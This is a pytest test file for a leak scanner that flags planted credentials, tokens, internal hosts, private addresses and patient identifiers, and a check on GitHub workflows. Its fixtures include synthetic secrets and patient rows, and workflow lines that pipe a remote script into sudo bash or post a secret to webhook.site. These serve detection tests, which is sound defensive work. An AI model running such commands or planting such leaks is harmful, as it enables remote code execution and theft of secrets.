"""Kinds of leaks that a second stranger planted, and what looks like them. Values are made at run time."""

from __future__ import annotations

import string

import pytest

from nhsr_registry.checks._base import Subject
from nhsr_registry.checks._leaks import numbers
from nhsr_registry.checks.no_opaque_or_large_data import NoOpaqueOrLargeData
from nhsr_registry.checks.workflow_safe import WorkflowSafe
from nhsr_registry.leaks import in_names, scan
from nhsr_registry.leaks.numbers import valid
from nhsr_registry.snapshot import Snapshot
from tests.leaks.test_leaks import HEX, PW, _shown, chance, rules

ONE, TWO = numbers(2)
GH = "gh" + "p_"
DOTTED = "172" + ".22.141.217"
SHARE = "\\" * 2 + "uhb-data\\ptl$\\weekly\\latest.csv"
STRING = "DRI" + "VER={SQL Ser" + "ver};SER" + "VER=ehr-live;DATABASE=HES;Trusted_Connection=yes"


def a_chi() -> str:
    return next(n for nine in ("130965916", "130965918") for d in range(10) if valid(n := f"{nine}{d}"))


FOUND = [
    ("secret", ".Renviron.example", f"FUNCTION_KEY={chance(43)}7A="),
    ("secret", "docker-compose.yml", f"      - APP_SECRET_KEY=1Qu{'+9)7'}CR({'m-Tk+bm64'}NHBGE7x!3Hp7{'TUIv'}DZV*0be!"),
    ("access-token", "a.py", f'token = "{GH}" + "{chance(18)}" + "{chance(18)}"'),
    ("access-token", "a.R", f'token <- paste0("{GH}", "{chance(36)}")'),
    ("access-token", "a.sql", f"SELECT '{GH}{chance(10)}' || '{chance(26)}'"),
    ("secret", "a.R", f'u <- "https://isd.digital.nhs.uk/trud/api/v1/ke{"ys/"}{chance(40, HEX)}/items/341"'),
    ("secret", "kaggle.json", f'{{"username": "me", "k{"ey"}": "{chance(32, HEX)}"}}'),
    ("password", "a.py", f'C = """\nuser: svc\npass{"word"}: {PW}*\n"""\n'),
    ("password", "a.R", f'sesame <- "{"Copper" + "#Ledger88*"}" # trainer account on the server'),
    ("internal-host", ".pypirc", f"repository = http://pypi.rjz.x{'rjz.nhs'}.uk:8081/simple/"),
    ("internal-host", "a.py", f'post("https://forms.trust.{"nhs.uk"}:8443/api/")'),
    ("internal-host", "a.rdg", f"<name>vm-bi-rds02.corp.rth{'.local'}</name>"),
    ("private-address", "README.md", f"Connect to `{DOTTED},51433` from the VDI."),
    ("private-address", "a.tfvars", f'hosts = ["{DOTTED}:5432"]'),
    ("database-server", "a.do", f'* odbc load, exec("select 1") conn("{STRING}")'),
    ("network-folder", "a.R", f'x <- read_csv(r"({SHARE})")'),
    ("chi-number", "reference/chi_example.md", f"For instance Gethin Maddocks has C{'HI'} {a_chi()}, so a man."),
]
PLAIN = [
    ("a.R", f'token <- c("{GH}", "{chance(12, "abcdef")}x")'),
    ("a.yml", "- task_key: Bronze-201516-201819_iteration"),
    ("a.yml", "primary_key: organisation_code_2022_of_provider"),
    ("a.R", 'con <- dbConnect(drv, "jdbc:h2:mem:training7")'),
    ("README.md", f"The dashboard is at https://involve.trust.{'nhs.uk'}:8443/app/."),
    ("a.R", 'x <- "Copper and ledger" # the account of it'),
    ("a.R", 'x <- str_remove(x, "\\\\bword\\\\b$")'),
    ("a.yml", "try 192.168.1.1:3128 and 10.0.0.5:8080"),
    ("a.do", 'input str8 code str20 label\n"R1A" "Leeds"\n"R1B" "York"\n"R1C" "Hull"\nend\n'),
    ("a.do", f'* conn("{STRING.replace("ehr-live", "localhost")}")'),
]


@pytest.mark.parametrize(("rule", "path", "text"), FOUND, ids=lambda text: text[:24])
def test_where_people_leave_them(rule: str, path: str, text: str):
    assert rule in rules(path, text)


@pytest.mark.parametrize(("path", "text"), PLAIN, ids=lambda text: text[:30])
def test_what_looks_like_them(path: str, text: str):
    assert not rules(path, text)


def test_chi_numbers_without_their_nought():
    cells = [n for nine in range(10965910, 110965910, 3_000_000) for d in range(10) if valid(n := f"0{nine}{d}"[-10:])]
    cells = [cell.lstrip("0") for cell in cells if 0 < int(cell[:2]) < 32 and 0 < int(cell[2:4]) < 13][:12]
    assert any(len(cell) == 9 for cell in cells)
    assert rules("a.tsv", "chi_no\tgp\n" + "".join(f"{cell}\tA\n" for cell in cells)) == {"chi-number-list"}


def test_a_record_s_own_beside_those_for_tests():
    text = f'ok <- c("999{ONE[3:]}", "1234567890", "0000000000")\n# from March (Mrs Dhaliwal): c("{ONE}", "{TWO}")\n'
    assert _shown("tests/testthat/test-a.R", text) == [("nhs-number-list", 2, False)]


ROWS = [("D8930514", "Greenhalgh", "19/08/1951"), ("D6700721", "Mistry", "27/12/1979"), ("D8914259", "Iqbal", "27/08/1952")]  # fmt: skip


@pytest.mark.parametrize(
    ("path", "begins", "sign", "ends"),
    [
        ("a_example.do", "clear\ninput str8 hospno str20 surname str10 dob\n", '"{}" "{}" "{}"', "end\n"),
        ("a.sas", "data a; input hospno $ surname $ dob :ddmmyy10.;\ndatalines;\n", "{} {} {}", ";\n"),
        ("a.sps", "data list free / hospno (a8) surname (a20) dob (a10).\nbegin data\n", "{} {} {}", "end data.\n"),
        ("a.R", 'x <- read.csv(text = "hospno,surname,dob\n', "{},{},{}", '")\n'),
        ("a.py", 'x = pd.read_csv(io.StringIO("""hospno,surname,dob\n', "{},{},{}", '"""))\n'),
    ],
)
def test_rows_that_code_carries(path: str, begins: str, sign: str, ends: str):
    text = begins + "".join(sign.format(*row) + "\n" for row in ROWS) + ends
    assert "person-rows" in rules(path, text)
    assert not rules(path, text.replace("hospno", "ward").replace("surname", "word").replace("dob", "day"))


def test_births_as_stata_prints_them():
    rows = "".join(f"  {n}. | K789{n} Maddocks   2{n}sep19{n}4   CH26 8WF |\n" for n in range(4, 9))
    assert "person-rows" in rules("run.log", f"     | patid   surname   dob   postcode |\n{rows}")


def test_data_of_persons_by_their_names():
    for path in ("data/ptl_weekly.sqlite", "data/smr01_basefile.rds", "hes_apc_extract.sav"):
        assert [hit.sure for hit in in_names(path)] == [False]
    assert not list(in_names("data/hes_summary.rds"))


def test_files_named_after_patients_are_told_first():
    texts = dict.fromkeys([*(f"a{n}.rds" for n in range(60)), "data/hes_apc_extract.sav"], "x")
    finding = NoOpaqueOrLargeData.run(Subject(snapshot=Snapshot.of(texts)))
    assert finding.evidence[0].path == "data/hes_apc_extract.sav"
    assert finding.reason.startswith("61 ")


HEAD = "jobs:\n  a:\n    steps:\n"
LEFT = "on:\n  workflow_run:\n    workflows: [b]\n" + HEAD + "      - uses: dawidd6/action-download-artifact@v3\n"


@pytest.mark.parametrize(
    ("line", "text"),
    [
        (7, "permissions: write-all\non: push\n" + HEAD + "      - uses: x\n      - run: curl -sSL https://x.org/i.sh | sudo bash\n"),
        (5, "on: push\n" + HEAD + "      - run: curl -d k=${{ secrets.K }} https://webhook.site/1\n"),
        (5, "on: push\n" + HEAD + "      - run: curl -d k=${{ secrets.K }} http://x.org/in\n"),
        (8, LEFT + "      - run: bash ./report/post.sh\n"),
    ],
)  # fmt: skip
def test_workflows_that_give_away(line: int, text: str):
    finding = WorkflowSafe.run(Subject(snapshot=Snapshot.of({".github/workflows/a.yml": text})))
    assert line in {where.line for where in finding.evidence}


def test_workflows_that_do_not():
    own = LEFT + "      - uses: actions/checkout@v4\n      - run: python post.py\n"
    sent = "on: push\n" + HEAD + "      - run: curl -d k=${{ secrets.K }} https://api.example.org/deploy\n"
    shown = "on: push\n" + HEAD + "      - run: curl https://x.org/a.json | python -m json.tool\n"
    for text in (own, sent, shown):
        snapshot = Snapshot.of({".github/workflows/a.yml": text})
        assert WorkflowSafe.run(Subject(snapshot=snapshot)).outcome == "pass", text


def test_more_names_of_files_are_read():
    paths = ("_environment.local", "deploy/deploy_key", "a.rdg", ".envrc", "logs/run.smcl", "my_token")
    texts = dict.fromkeys(paths, f"NETLIFY={'nf' + 'p_'}{chance(36, string.ascii_letters + string.digits)}\n")
    assert {hit.path for hit in scan(Snapshot.of(texts))} == set(paths)
